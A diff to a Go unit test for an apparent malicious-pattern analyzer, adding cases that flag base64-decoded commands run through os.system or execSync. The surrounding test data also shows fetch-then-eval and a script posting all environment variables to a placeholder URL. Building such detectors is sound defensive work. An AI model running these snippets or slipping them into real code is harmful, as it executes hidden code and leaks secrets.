@@ -22,6 +22,8 @@ func TestAnalyze(t *testing.T) {
 		{"download saved, another file run", Python, "from urllib.request import urlretrieve\nurlretrieve(U, '/tmp/x.tgz')\nimport os\nos.system('tar xzf data.tgz')", ""},
 		{"download parsed, command fixed", Python, "import requests, subprocess\nv = requests.get(U).json()['tag']\nsubprocess.run(['git', 'checkout', 'main'])", ""},
 		{"js fetch then eval", JavaScript, "const r = await fetch(u);\nconst code = await r.text();\neval(code);", "download-exec@3<-1"},
+		{"module imported inline", Python, "__import__('os').system(__import__('base64').b64decode(B))", "decoded-exec@1"},
+		{"js module required inline", JavaScript, "require('child_process').execSync(Buffer.from(B, 'base64').toString())", "decoded-exec@1"},
 		{"js regexp exec is not a process", JavaScript, "const m = /a(b)/.exec(await (await fetch(u)).text());", ""},
 		{"environment posted", Python, "import os, json, urllib.request\nbody = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(U, data=body)", "secret-send@3<-2"},
 		{"one variable as a header", Python, "import os, requests\nk = os.environ.get('API_KEY')\nrequests.post(U, headers={'Authorization': k}, json={'q': 1})", ""},
